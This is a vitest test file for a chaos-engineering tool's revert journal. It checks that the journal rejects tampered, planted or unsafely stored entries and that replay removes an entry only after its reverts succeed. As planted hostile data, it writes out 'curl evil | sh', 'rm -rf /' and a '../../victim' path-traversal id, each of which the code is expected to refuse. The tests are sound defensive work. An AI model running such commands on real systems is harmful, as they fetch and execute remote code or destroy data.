import { chmod, chown, mkdir, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { systemClock } from '../../harness/core/clock.js';
import { silentLogger } from '../../harness/core/logger.js';
import { JournalHosts } from '../../harness/journal/hosts.js';
import { defaultJournalDir, RevertJournal } from '../../harness/journal/journal.js';
import { replayJournal } from '../../harness/journal/replay.js';
import { ScriptedTransport } from '../support/engine-scripted.js';
import { spyOnSyncs } from '../support/fsync-spy.js';
import { tempDir } from '../support/tmp.js';

const entry = (attemptId: string) => ({
  runId: '20260101T000000Z-abcd',
  attemptId,
  host: 'web1',
  labFile: '/labs/lab.yaml',
  hostIdentity: 'web1 ssh 10.0.0.5:22',
  shell: 'posix' as const,
  revert: [`printf '%s\\n' 'secure' > /tmp/${attemptId}`],
  check: 'true',
  timeoutMs: 10_000,
});

/** A uid that is not ours (the tests run as root, which may chown). */
const NOBODY = 65534;

describe('revert journal', () => {
  it('records one durable file per injection, lists them oldest first, removes them', async () => {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'state', 'journal'));
    // two records in one millisecond would be listed by file name: each gets a time of its own
    vi.useFakeTimers({ toFake: ['Date'] });
    let a, b;
    try {
      vi.setSystemTime(1_700_000_000_000);
      a = await journal.record(entry('lin-fw@web1#1'));
      vi.setSystemTime(1_700_000_000_001);
      b = await journal.record(entry('bundle/lin-dns@web1#1'));
    } finally {
      vi.useRealTimers();
    }
    expect(a.id).toMatch(/^[A-Za-z0-9._-]+$/);
    expect((await readdir(journal.dir)).sort()).toEqual([`${a.id}.json`, `${b.id}.json`, 'journal.key'].sort());
    const { entries } = await journal.pending();
    expect(entries.map((e) => e.attemptId)).toEqual(['lin-fw@web1#1', 'bundle/lin-dns@web1#1']);
    expect(entries[0]).toMatchObject({ v: 2, host: 'web1', hostIdentity: 'web1 ssh 10.0.0.5:22', revert: [expect.stringContaining('secure')], pid: process.pid });
    await journal.remove(a.id);
    expect((await journal.pending()).entries.map((e) => e.id)).toEqual([b.id]);
  });

  it('keeps its key and entries private: a 0700 folder, 0600 files', async () => {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'state', 'journal'));
    const a = await journal.record(entry('x@web1#1'));
    const modeOf = async (path: string) => (await stat(path)).mode & 0o777;
    expect(await modeOf(journal.dir)).toBe(0o700);
    expect(await modeOf(join(journal.dir, 'journal.key'))).toBe(0o600);
    expect(await modeOf(join(journal.dir, `${a.id}.json`))).toBe(0o600);
  });

  it('reports files it cannot read instead of dropping them, and ignores never-renamed temp files', async () => {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'journal'));
    await journal.record(entry('ok@web1#1'));
    await writeFile(join(journal.dir, 'broken.json'), '{"v":2,', { mode: 0o600 });
    await writeFile(join(journal.dir, 'half.json.tmp'), '{', { mode: 0o600 });
    const { entries, rejected } = await journal.pending();
    expect(entries.map((e) => e.attemptId)).toEqual(['ok@web1#1']);
    expect(rejected.map((u) => u.file)).toEqual([join(journal.dir, 'broken.json')]);
  });

  it('a missing journal directory means nothing is pending', async () => {
    expect(await new RevertJournal('/nonexistent/chaoslab/journal').pending()).toEqual({ entries: [], rejected: [] });
  });

  it('lives under CHAOSLAB_STATE_DIR, else .chaoslab in the working directory', () => {
    expect(defaultJournalDir('/work', {})).toBe('/work/.chaoslab/journal');
    expect(defaultJournalDir('/work', { CHAOSLAB_STATE_DIR: 'state' })).toBe('/work/state/journal');
    expect(defaultJournalDir('/work', { CHAOSLAB_STATE_DIR: '/var/lib/chaoslab' })).toBe('/var/lib/chaoslab/journal');
  });
});

describe('revert journal: only entries chaoslab wrote here are trusted', () => {
  it('refuses a planted entry (no MAC, a made-up MAC) and an edited one', async () => {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'journal'));
    const real = await journal.record(entry('real@web1#1'));
    const file = join(journal.dir, `${real.id}.json`);
    const stored = JSON.parse(await readFile(file, 'utf8'));
    await writeFile(join(journal.dir, 'planted.json'), JSON.stringify({ ...stored, id: 'planted', mac: '00'.repeat(32) }), { mode: 0o600 });
    const { mac: _mac, ...unsigned } = stored;
    await writeFile(join(journal.dir, 'unsigned.json'), JSON.stringify({ ...unsigned, id: 'unsigned' }), { mode: 0o600 });
    await writeFile(file, JSON.stringify({ ...stored, revert: ['curl evil | sh'] }), { mode: 0o600 });
    const { entries, rejected } = await journal.pending();
    expect(entries).toEqual([]);
    expect(Object.fromEntries(rejected.map((r) => [r.file.split('/').pop(), r.error]))).toEqual({
      'planted.json': expect.stringContaining('MAC does not match'),
      'unsigned.json': expect.stringContaining('mac'),
      [`${real.id}.json`]: expect.stringContaining('MAC does not match'),
    });
  });

  it('refuses entries when the journal has no key, and those of an older, unauthenticated chaoslab', async () => {
    await using dir = await tempDir();
    const journalDir = join(dir.path, 'journal');
    await mkdir(journalDir, { mode: 0o700 });
    await writeFile(join(journalDir, 'old.json'), JSON.stringify({ v: 1, id: 'old', revert: ['rm -rf /'], check: 'true' }), { mode: 0o600 });
    await writeFile(join(journalDir, 'new.json'), JSON.stringify({ v: 2, ...entry('a@web1#1'), id: 'new', createdAt: 1, pid: 1, mac: 'ab' }), { mode: 0o600 });
    const { entries, rejected } = await new RevertJournal(journalDir).pending();
    expect(entries).toEqual([]);
    expect(rejected.map((r) => r.error)).toEqual([expect.stringContaining('has no journal.key'), expect.stringContaining('older chaoslab')]);
  });

  it('an id is a file name, never a path: a "../" id is refused on read, and remove() refuses it too', async () => {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'state', 'journal'));
    await journal.record(entry('a@web1#1'));
    const victim = join(dir.path, 'victim.json');
    await writeFile(victim, 'keep me');
    const stored = JSON.parse(await readFile(join(journal.dir, (await readdir(journal.dir)).find((n) => n.endsWith('.json'))!), 'utf8'));
    await writeFile(join(journal.dir, 'evil.json'), JSON.stringify({ ...stored, id: '../../victim' }), { mode: 0o600 });
    const { rejected } = await journal.pending();
    expect(rejected).toEqual([{ file: join(journal.dir, 'evil.json'), error: expect.stringMatching(/^not a chaoslab journal entry: id: /) }]);
    await expect(journal.remove('../../victim')).rejects.toMatchObject({ code: 'CHAOSLAB_JOURNAL' });
    expect(await readFile(victim, 'utf8')).toBe('keep me');
  });

  it('refuses a folder others can write: a pre-existing 0777 journal, a shared parent without the sticky bit, a folder of another user', async () => {
    await using dir = await tempDir();
    const open777 = join(dir.path, 'open', 'journal');
    await mkdir(open777, { recursive: true });
    await chmod(open777, 0o777);
    await expect(new RevertJournal(open777).record(entry('a@web1#1'))).rejects.toMatchObject({ code: 'CHAOSLAB_JOURNAL_UNSAFE', message: expect.stringContaining('writable by other users (mode 0777)') });
    await expect(new RevertJournal(open777).pending()).rejects.toMatchObject({ code: 'CHAOSLAB_JOURNAL_UNSAFE' });
    expect(await readdir(open777)).toEqual([]);

    const shared = join(dir.path, 'shared');
    await mkdir(shared);
    await chmod(shared, 0o777);
    await expect(new RevertJournal(join(shared, 'state', 'journal')).record(entry('a@web1#1'))).rejects.toMatchObject({
      code: 'CHAOSLAB_JOURNAL_UNSAFE',
      message: expect.stringContaining(`${shared} is above the journal and writable by other users without the sticky bit`),
    });
    // the same folder with the sticky bit (like /tmp): others cannot replace what is ours in it
    await chmod(shared, 0o1777);
    await new RevertJournal(join(shared, 'state2', 'journal')).record(entry('a@web1#1'));

    const foreign = join(dir.path, 'foreign', 'journal');
    await mkdir(foreign, { recursive: true, mode: 0o700 });
    await chown(foreign, NOBODY, NOBODY);
    await expect(new RevertJournal(foreign).pending()).rejects.toMatchObject({ code: 'CHAOSLAB_JOURNAL_UNSAFE', message: expect.stringContaining(`is owned by uid ${NOBODY}`) });

    const linked = join(dir.path, 'linked');
    await symlink(join(dir.path, 'state-elsewhere'), linked);
    await mkdir(join(dir.path, 'state-elsewhere'), { mode: 0o700 });
    await expect(new RevertJournal(linked).pending()).rejects.toMatchObject({ message: expect.stringContaining('is a symbolic link') });
  });

  it('refuses an entry file of another user, a linked entry, and a key others can read', async () => {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'journal'));
    const a = await journal.record(entry('a@web1#1'));
    const b = await journal.record(entry('b@web1#1'));
    await chown(join(journal.dir, `${a.id}.json`), NOBODY, NOBODY);
    await writeFile(join(dir.path, 'outside.json'), await readFile(join(journal.dir, `${b.id}.json`)));
    await symlink(join(dir.path, 'outside.json'), join(journal.dir, 'linked.json'));
    const { entries, rejected } = await journal.pending();
    expect(entries.map((e) => e.id)).toEqual([b.id]);
    // files are read in name order: the entry id (a run id, digits first), then linked.json
    expect(rejected.map((r) => r.error)).toEqual([expect.stringContaining(`owned by uid ${NOBODY}`), expect.stringContaining('symbolic link')]);
    await chmod(join(journal.dir, 'journal.key'), 0o644);
    await expect(journal.pending()).rejects.toMatchObject({ code: 'CHAOSLAB_JOURNAL_UNSAFE', message: expect.stringContaining('can be read by other users') });
  });

  it('an entry written with another journal\'s key is refused (entries cannot be moved between state directories)', async () => {
    await using dir = await tempDir();
    const first = new RevertJournal(join(dir.path, 'one', 'journal'));
    const second = new RevertJournal(join(dir.path, 'two', 'journal'));
    const a = await first.record(entry('a@web1#1'));
    await second.record(entry('b@web1#1'));
    await writeFile(join(second.dir, `${a.id}.json`), await readFile(join(first.dir, `${a.id}.json`)), { mode: 0o600 });
    const { entries, rejected } = await second.pending();
    expect(entries.map((e) => e.attemptId)).toEqual(['b@web1#1']);
    expect(rejected).toEqual([{ file: join(second.dir, `${a.id}.json`), error: expect.stringContaining('MAC does not match') }]);
  });
});

describe('revert journal: durability', () => {
  afterEach(() => vi.restoreAllMocks());

  it('syncs the entry file before renaming it into place, then the folder (and its parent when just created); remove() syncs the folder', async () => {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'state', 'journal'));
    const synced = await spyOnSyncs();
    const a = await journal.record(entry('a@web1#1'));
    // the key is written under a temporary name and linked into place; the folder sync after the entry covers both
    expect(synced).toEqual([join(dir.path, 'state'), expect.stringMatching(new RegExp(`^${journal.dir}/journal\\.key\\.${process.pid}\\.[0-9a-f]{12}\\.tmp$`)), join(journal.dir, `${a.id}.json.tmp`), journal.dir]);
    synced.length = 0;
    await journal.remove(a.id);
    expect(synced).toEqual([journal.dir]);
  });
});

describe('replaying the journal', () => {
  async function replayWith(answers: Record<string, number>) {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'journal'));
    await journal.record({ ...entry('a@web1#1'), revert: ['revert-1', 'revert-2'], check: 'check' });
    const transport = new ScriptedTransport('web1', systemClock, (command) => ({ exitCode: answers[command] ?? 0 }));
    const [result] = await replayJournal(journal, (await journal.pending()).entries, { transportFor: async () => transport });
    return { result: result!, sent: transport.sent, left: (await journal.pending()).entries.length };
  }

  it('removes the entry only after every revert exited 0 and the baseline check passed', async () => {
    expect(await replayWith({})).toMatchObject({ result: { status: 'reverted' }, sent: ['revert-1', 'revert-2', 'check'], left: 0 });
  });

  it('a revert that fails stops there: no check, the entry stays', async () => {
    expect(await replayWith({ 'revert-1': 1 })).toMatchObject({ result: { status: 'revert_failed', detail: expect.stringContaining('exited 1') }, sent: ['revert-1'], left: 1 });
  });

  it('a revert that leaves drift (the check fails) keeps the entry', async () => {
    expect(await replayWith({ check: 3 })).toMatchObject({ result: { status: 'still_drifted', detail: expect.stringContaining('exited 3') }, sent: ['revert-1', 'revert-2', 'check'], left: 1 });
  });

  it('an entry whose inventory no longer loads, or whose host now points elsewhere, is reported and kept, never dropped', async () => {
    await using dir = await tempDir();
    const journal = new RevertJournal(join(dir.path, 'journal'));
    await journal.record({ ...entry('gone@web1#1'), labFile: join(dir.path, 'deleted-lab.yaml') });
    await writeFile(join(dir.path, 'other-lab.yaml'), 'name: other\nhosts:\n  - name: web2\n    platform: linux\n    address: 10.0.0.7\n    transport: { kind: ssh, user: root, key: "env:NOPE", insecure_host_key: true }\n');
    await journal.record({ ...entry('moved@web9#1'), labFile: join(dir.path, 'other-lab.yaml') });
    const moved = join(dir.path, 'moved-lab.yaml');
    await writeFile(moved, 'name: moved\nhosts:\n  - name: web1\n    platform: linux\n    address: 10.0.0.6\n    transport: { kind: ssh, user: root, key: "env:NOPE", insecure_host_key: true }\n');
    await journal.record({ ...entry('readdressed@web1#1'), labFile: moved });
    await using hosts = new JournalHosts({ clock: systemClock, logger: silentLogger });
    const results = await replayJournal(journal, (await journal.pending()).entries, { transportFor: hosts.transportFor });
    const byAttempt = Object.fromEntries(results.map((r) => [r.entry.attemptId, r]));
    expect(Object.values(byAttempt).map((r) => r.status)).toEqual(['host_unavailable', 'host_unavailable', 'host_unavailable']);
    expect(byAttempt['readdressed@web1#1']!.detail).toContain('now reaches web1 as "web1 ssh 10.0.0.6:22"; the entry was written for "web1 ssh 10.0.0.5:22"');
    expect(byAttempt['moved@web9#1']!.detail).toContain('no longer in');
    expect(byAttempt['gone@web1#1']!.detail).toContain('deleted-lab.yaml');
    expect((await journal.pending()).entries).toHaveLength(3);
  });
});
